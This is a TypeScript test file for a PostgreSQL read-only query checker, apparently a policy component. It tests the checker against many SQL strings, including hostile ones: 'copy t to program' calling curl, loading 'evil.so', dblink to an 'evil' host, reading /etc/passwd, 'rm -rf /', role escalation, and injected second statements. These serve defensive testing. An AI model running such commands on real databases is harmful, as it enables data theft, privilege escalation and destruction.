import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { sqlParsersFor } from '../../settings/sql-parsers.ts';
import { objectOf } from '../../wire/json.ts';
import { newDraft } from '../draft.ts';
import { FALSE, TRUE, type Truth, UNKNOWN } from '../truth.ts';
import { readSqlOnly, type SqlOnly } from './read-sql-only.ts';

const parsers = await sqlParsersFor(['sql_only']);

function sqlOnly(kinds: readonly string[], functions: readonly string[] = []): SqlOnly {
  const draft = newDraft('policy', parsers);
  const read = readSqlOnly(draft, objectOf(Object.entries({ kinds, dialect: 'postgresql', functions })), '', parsers);
  expect(draft.problems).toEqual([]);
  if (read === undefined) throw new Error('no operation');
  return read;
}

const select = sqlOnly(['select']);

/** A reason before the texts it goes for. */
type Cases = { readonly [reason: string]: readonly string[] };

const READING: Cases = {
  'plain questions': [
    'select 1',
    'SELECT * FROM t',
    'select',
    'select a, b as c from s.t where a = 1 and not b is null order by a desc nulls last limit 10 offset 5',
    'select distinct on (a) a, b from t group by a, b having count(*) > 1',
    'select t.a, t.*, "Weird Name".b from t, "Weird Name"',
    'select 1;',
    'select 1; select 2;',
    '(select 1) union all (select 2) intersect select 3 except select 4',
    'select 1 where $1 = any($2)',
    'select a from t fetch first 3 rows only',
  ],
  'VALUES and TABLE read': ['values (1, 2), (3, 4)', 'table t', 'table t limit 3', 'select * from (values (1)) v(a)'],
  'subqueries at any depth': [
    'select (select max(a) from (select a from t where exists (select 1 from u where u.a = t.a)) x)',
    'with a as (select 1), b as materialized (select * from a) select * from b',
    'with recursive r(n) as (select 1 union all select n + 1 from r where n < 5) select * from r',
    'with recursive r as (select 1 as a) search depth first by a set o select * from r',
    'with recursive r as (select 1 as a) cycle a set c using p select * from r',
    'select * from t cross join lateral (select t.a) x',
    'select * from only t join u using (a) natural join v left join w on w.a = t.a',
  ],
  'comments and strings are not code': [
    "select 'delete from t; drop table t'",
    'select 1 -- ; delete from t',
    'select 1 /* ; delete /* nested */ from t */ + 2',
    'select $$ ; drop table t; $$, $a$ $$ $a$',
    'select "delete", "into", "update" from "drop"',
    "select E'a\\n\\\\b', U&'d\\0061t', n'x', b'101', x'ff'",
    "select 'it''s', 'a' \n 'b'",
  ],
  'built-in functions': [
    'select lower(a), PG_CATALOG.Upper(b), count(*), coalesce(a, b), nullif(a, b), greatest(1, 2) from t',
    "select now(), current_date, current_timestamp(0), current_user, session_user, date_trunc('day', now()), localtime",
    "select extract(year from d), d at time zone 'utc', substring(a from 1 for 2), position('a' in b), trim(both 'x' from a) from t",
    'select overlay(a placing b from 1), a collate "C", collation for (a) from t',
    'select row_number() over (partition by a order by b rows between 1 preceding and current row), sum(a) over w from t window w as (order by a)',
    "select array_agg(distinct a order by b) filter (where c), percentile_cont(0.5) within group (order by a), string_agg(a, ',') from t",
    'select a, grouping(a) from t group by grouping sets ((a), ()), rollup (b), cube (c)',
    'select * from generate_series(1, 10) as g',
    'select g.g from generate_series(1, 10) as g',
    'select generate_series.generate_series from generate_series(1, 2)',
    'select g.x, g.ordinality from unnest(array[1, 2]) with ordinality as g(x)',
    'select e.key, e.value from t, jsonb_each(t.a) as e',
    'select e.value from jsonb_array_elements(a) e',
    "select x.a from json_to_record('{}') as x(a int, b text[])",
    'select * from rows from (generate_series(1, 2), generate_series(1, 3)) as r(a, b)',
    "select a -> 'b' ->> 'c', a #>> '{x,y}', a @> '{}', a ? 'x' from t",
    "select json_object('a': 1 returning jsonb), json_array(1, 2), a is json, json_value(a, '$.x' returning int default 1 on error) from t",
    "select * from json_table('[]', '$[*]' columns (a int path '$.a', nested '$.b[*]' columns (c text path '$')))",
    'select json_arrayagg(a order by b), json_objectagg(a: b), json_array(select 1) from t',
    "select to_tsvector('english', a) @@ websearch_to_tsquery(b) from t",
  ],
  'built-in operators and casts': [
    "select a || b, -a, a ^ 2, a between 1 and 2, a not between symmetric 1 and 2, a like 'x%', a not ilike 'x', a similar to 'x', a ~* 'y' from t",
    'select a operator(pg_catalog.+) b, a is distinct from b, a in (1, 2), (a, b) < (1, 2), a <> all (select 1) from t',
    'select a from t order by a using <',
    "select a::text, cast(a as numeric(10, 2)), '1'::int[], date '2026-01-01', interval '1' day, timestamptz 'now', a::pg_catalog.int4 from t",
    'select array[1, 2], a[1], (array[1, 2])[1:2], row(1, 2), case a when 1 then 2 else 3 end, (t).* from t',
    'select a is true, b is not unknown, not c, true, null, 1.5e3 from t',
  ],
  samples: ['select * from t tablesample system (10) repeatable (1)', 'select * from t tablesample bernoulli (1)'],
};

const CHANGING: Cases = {
  'statements that change': [
    'insert into t values (1)',
    'update t set a = 1',
    'delete from t',
    'truncate t',
    'merge into t using u on t.a = u.a when matched then delete',
    'drop table t',
    'create table t (a int)',
    'create table t as select 1',
    'create materialized view v as select 1',
    "create function f() returns int language sql as 'select 1'",
    'alter role postgres superuser',
    'grant all on t to public',
    'refresh materialized view v',
    'vacuum',
    'comment on table t is null',
    "copy t to program 'curl evil'",
    "copy (select 1) to '/tmp/x'",
    'copy t from stdin',
    'do $$ begin perform 1; end $$',
    'call p()',
    'set role postgres',
    'set search_path = evil',
    'reset all',
    'show all',
    'discard all',
    'prepare p as select 1',
    'execute p',
    'deallocate p',
    'declare c cursor for select 1',
    'fetch c',
    'listen x',
    "notify x, 'y'",
    'lock table t',
    'begin',
    'commit',
    'savepoint s',
    "load 'evil.so'",
    'checkpoint',
    "security label on table t is 'x'",
    'import foreign schema s from server x into y',
  ],
  'EXPLAIN is a kind of its own': [
    'explain select 1',
    'explain analyze delete from t',
    'explain (analyze) insert into t values (1)',
  ],
  'INTO makes a table': [
    'select * into t from u',
    'select 1 into temp t',
    'select 1 into unlogged t union select 2',
    'with a as (select 1) select * into t from a',
  ],
  locks: [
    'select * from t for update',
    'select * from t for no key update of t nowait',
    'select * from t for share skip locked',
    'select * from (select * from t for key share) x',
    'select 1 where exists (select 1 from t for update)',
    'with a as (select * from t for update) select * from a',
  ],
  'changes in a CTE, at any depth': [
    'with d as (delete from t returning *) select * from d',
    'with a as (with b as (update t set a = 1 returning a) select * from b) select * from a',
    'select * from (with i as (insert into t values (1) returning *) select * from i) x',
    'select (with m as (merge into t using u on true when matched then do nothing returning a) select 1 from m)',
  ],
  'a second statement': [
    'select 1; drop table t',
    'select 1; select 2; delete from t',
    "select 1 -- '\n; delete from t",
    'select 1 /* /* */ */ ; delete from t',
    "select '' ; delete from t --'",
    'select $a$ $b$ $a$; delete from t --$b$',
  ],
};

const UNJUDGED: Cases = {
  'comments that others execute': ["select 1 /*! into outfile '/srv/x' */", 'select 1 /*M! ; drop table t */'],
  'functions that do more than compute': [
    'select pg_terminate_backend(1)',
    'select pg_catalog.pg_terminate_backend(1)',
    'select "pg_terminate_backend"(1)',
    'select U&"pg_terminate\\005fbackend"(1)',
    'select "PG_Terminate_Backend"(1)',
    "select nextval('s')",
    "select setval('s', 1)",
    "select set_config('role', 'postgres', false)",
    "select current_setting('is_superuser')",
    "select lo_import('/etc/passwd')",
    "select lo_export(1, '/tmp/x')",
    "select * from dblink('host=evil', 'select 1') as t(a int)",
    "select pg_read_file('/etc/passwd')",
    "select pg_ls_dir('/')",
    "select query_to_xml('delete from t', true, true, '')",
    "select table_to_xml('t', true, true, '')",
    "select * from ts_stat('delete from t')",
    "select ts_rewrite('a', 'select 1')",
    'select pg_sleep(10)',
    'select * from t where pg_sleep(1) is null',
    'select pg_advisory_lock(1)',
    "select pg_notify('a', 'b')",
    'select txid_current()',
    'select random()',
    'select pg_reload_conf()',
    'select 1 order by pg_sleep(1)',
    'select 1 limit (select pg_sleep(1)::text::int)',
    'select count(*) filter (where pg_sleep(1) is null) from t',
    'select sum(a) over (order by pg_sleep(1)) from t',
    'select case when true then pg_sleep(1) end',
    'select array[pg_sleep(1)]',
    'select a[f(1)] from t',
    'values (pg_sleep(1))',
    'select * from rows from (generate_series(1, 2), pg_ls_dir(1)) as r',
    'select * from t tablesample bernoulli (f(1))',
    "select json_object('a': pg_sleep(1))",
    "select json_value('{}', '$' default f(1) on error)",
    "select * from json_table(f(1), '$' columns (a int))",
  ],
  'functions of somebody else': [
    'select my_function(1)',
    'select public.lower(a) from t',
    'select a.pg_catalog.lower(1)',
    'select "pg_catalog.lower"(1)',
  ],
  'a function written as a column': [
    "select t.pg_read_file from unnest(array['/etc/passwd']) t",
    "select ('/etc/passwd'::text).pg_read_file",
    'select (a).pg_terminate_backend from t',
    'select (array[1])[1].pg_terminate_backend',
    "select lower.pg_read_file from lower('/ETC/PASSWD')",
    'select pg_read_file.pg_read_file from json_array_elements_text(\'["/etc/passwd"]\') pg_read_file',
    "select f.pg_read_file from cast('/etc/passwd' as text) f",
    "select 1 from unnest(array['x']) f where exists (select f.pg_read_file from t)",
    "select f.pg_read_file from unnest(array['x']) f where exists (select 1 from generate_series(1, 2) f(pg_read_file))",
    'select upper from cast(1 as text)',
  ],
  'operators of somebody else': [
    'select a operator(public.+) b from t',
    'select a <=> b from t',
    'select a from t order by a using ~~~>',
    'select a operator(x.=) any (select 1) from t',
    'select (a, b) operator(x.<) (select 1, 2) from t',
  ],
  'types of somebody else, and those that look names up': [
    "select 'x'::mytype",
    "select 't'::regclass",
    "select 'x'::public.text",
    'select cast(\'x\' as "Text")',
    "select '<a/>'::xml",
    "select * from json_to_record('{}') as x(a mytype)",
    "select json_value('{}', '$' returning mytype)",
  ],
  XML: [
    "select xmlparse(document '<a/>')",
    'select xmlelement(name a)',
    "select * from xmltable('/a' passing b columns c int path 'd')",
  ],
  'samples by an extension': ['select * from t tablesample my_method (1)'],
  'text that does not parse': [
    '',
    ';;',
    '-- nothing',
    'selec 1',
    'select 1 from',
    "select 'open",
    'select 1 /* open',
    'select `a` from t',
    '\\! rm -rf /',
    'select :name',
    'select 1 \\gexec',
    'select 1\\; delete from t',
  ],
  'text that means one thing here and another there': [
    "select '\\' , '; delete from t; --'",
    "select E'it\\'s'",
    'select 1\0; delete from t',
    "select '\ud800'",
  ],
};

describe('only reading', () => {
  table(READING, TRUE, 'is reading');
  table(CHANGING, FALSE, 'is not');
  table(UNJUDGED, UNKNOWN, 'cannot be judged');

  test('there is a case for every promise', () => {
    const all = [READING, CHANGING, UNJUDGED].flatMap((cases) => Object.values(cases).flat());
    expect(all.length).toBeGreaterThan(150);
    expect(new Set(all).size).toBe(all.length);
  });

  function table(cases: Cases, wanted: Truth, told: string): void {
    for (const [reason, texts] of Object.entries(cases)) {
      test.each(texts)(`${reason}: %j ${told}`, (text) => {
        expect(select.judge(text)).toBe(wanted);
      });
    }
  }
});

describe('laws', () => {
  const reading = fc.constantFrom(...Object.values(READING).flat());
  const hostile = fc.constantFrom(...Object.values({ ...CHANGING, ...UNJUDGED }).flat());

  test('a text with a change after it is not reading', () => {
    fc.assert(
      fc.property(fc.oneof(reading, fc.string()), fc.constantFrom('\n;', '\n/**/;', '\n--\n;'), (text, end) => {
        expect(select.judge(`${text}${end} delete from t`)).not.toBe(TRUE);
      }),
    );
  });

  test('neither case nor comments nor spaces open a door', () => {
    const spaces = fc.constantFrom(' ', '\n', '\t', ' /* x */ ', ' -- x\n', '/**/');
    fc.assert(
      fc.property(hostile, fc.boolean(), spaces, spaces, (text, isUpper, space, end) => {
        const cased = isUpper && !text.includes('"') && !text.includes('$') ? text.toUpperCase() : text;
        const spaced = /['"$-]|\/\*/.test(cased) ? cased : cased.replaceAll(' ', space);
        expect(select.judge(`${end}${spaced}${end}`)).not.toBe(TRUE);
      }),
    );
  });

  test('what may not stand alone may not stand inside another question', () => {
    const frames = [
      (inner: string) => `select (${inner})`,
      (inner: string) => `with q as (${inner}) select * from q`,
      (inner: string) => `select * from (${inner}) q`,
      (inner: string) => `select 1 where a in (${inner})`,
      (inner: string) => `(${inner}) union select 1`,
      (inner: string) => `select array(${inner})`,
      (inner: string) => `select 1 order by (${inner})`,
      (inner: string) => `explain ${inner}`,
    ];
    // A word alone, such as checkpoint, is the name of a column there.
    const several = hostile.filter((text) => /\s/.test(text));
    fc.assert(
      fc.property(several, fc.array(fc.constantFrom(...frames), { minLength: 1, maxLength: 4 }), (text, around) => {
        expect(select.judge(around.reduce((inner, frame) => frame(inner), text))).not.toBe(TRUE);
      }),
    );
  });

  test('never throws, whatever the text', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        expect([TRUE, UNKNOWN, FALSE]).toContain(select.judge(text));
      }),
    );
  });
});

describe('what the author names', () => {
  const named = sqlOnly(
    ['select'],
    ['random', 'shop.total', 'shop.unnest', 'order_status', '<=>', 'public.<=>', 'find_orders'],
  );

  test.each([
    'select random()',
    'select RANDOM()',
    'select shop.total(1)',
    "select 'open'::order_status",
    'select a <=> b from t',
    'select a operator(public.<=>) b from t',
    'select f.a from find_orders(1) as f(a)',
    'select a from find_orders(1)',
  ])('%j is allowed then', (text) => {
    expect(named.judge(text)).toBe(TRUE);
    expect(select.judge(text)).toBe(UNKNOWN);
  });

  test.each([
    'select total(1)',
    'select other.total(1)',
    'select "shop.total"(1)',
    'select public.random()',
    'select pg_catalog.random()',
    'select f.pg_read_file from find_orders(1) f',
    'select find_orders.pg_read_file from find_orders(1)',
    'select pg_read_file.pg_read_file from shop.unnest(1) pg_read_file',
  ])('%j is not: it is another function', (text) => {
    expect(named.judge(text)).toBe(UNKNOWN);
  });
});

describe('other kinds', () => {
  test.each<[readonly string[], string, Truth]>([
    [['insert'], 'insert into t (a) values (1), (default) returning a', TRUE],
    [['insert'], 'insert into t default values', TRUE],
    [['insert'], 'insert into t values (1) on conflict (a) do nothing', TRUE],
    [['insert'], 'insert into t values (1) on conflict (a) do update set a = excluded.a', FALSE],
    [['insert', 'update'], 'insert into t values (1) on conflict (a) do update set a = excluded.a', TRUE],
    [['insert'], 'insert into t select * from secrets', FALSE],
    [['insert'], 'insert into t table secrets', FALSE],
    [['insert'], 'insert into t values ((select password from secrets))', FALSE],
    [['insert'], 'insert into t values (1) limit (select 1)', FALSE],
    [['insert', 'select'], 'insert into t select * from u', TRUE],
    [['insert'], "insert into t values (nextval('s'))", UNKNOWN],
    [['insert'], 'values (1)', FALSE],
    [['insert'], 'select 1', FALSE],
    [['update'], 'update t set a = 1, b[1] = default where c = 2 returning *', TRUE],
    [['update'], 'update t set (a, b) = (1, 2)', TRUE],
    [['update'], 'update t set a = u.a from u', FALSE],
    [['update', 'select'], 'update t set a = u.a from u', TRUE],
    [['update'], 'update t set a = 1 where current of c', UNKNOWN],
    [['delete'], 'delete from t where a = 1', TRUE],
    [['delete'], 'delete from t using u where t.a = u.a', FALSE],
    [['delete'], 'delete from t where a in (select a from u)', FALSE],
    [['select', 'delete'], 'with d as (delete from t returning *) select * from d', TRUE],
    [['select', 'delete'], 'with d as (update t set a = 1 returning *) select * from d', FALSE],
    [['merge', 'select'], 'merge into t using u on t.a = u.a when matched then do nothing', TRUE],
    [['merge', 'select'], 'merge into t using u on t.a = u.a when matched then delete', FALSE],
    [['merge', 'select', 'insert'], 'merge into t using u on t.a = u.a when not matched then insert values (1)', TRUE],
    [['merge', 'update'], 'merge into t using u on t.a = u.a when matched then update set a = 1', FALSE],
    [['explain', 'select'], 'explain (analyze, buffers, format json) select 1', TRUE],
    [['explain', 'select'], 'explain analyze delete from t', FALSE],
    [['explain', 'select'], 'explain create table t as select 1', FALSE],
    [['explain', 'select'], 'explain execute p', FALSE],
    [['explain', 'select'], 'explain (by_extension) select 1', UNKNOWN],
    [['explain', 'select'], 'select 1', TRUE],
    [['explain'], 'explain select 1', FALSE],
  ])('%j: %j', (kinds, text, wanted) => {
    expect(sqlOnly(kinds).judge(text)).toBe(wanted);
  });
});
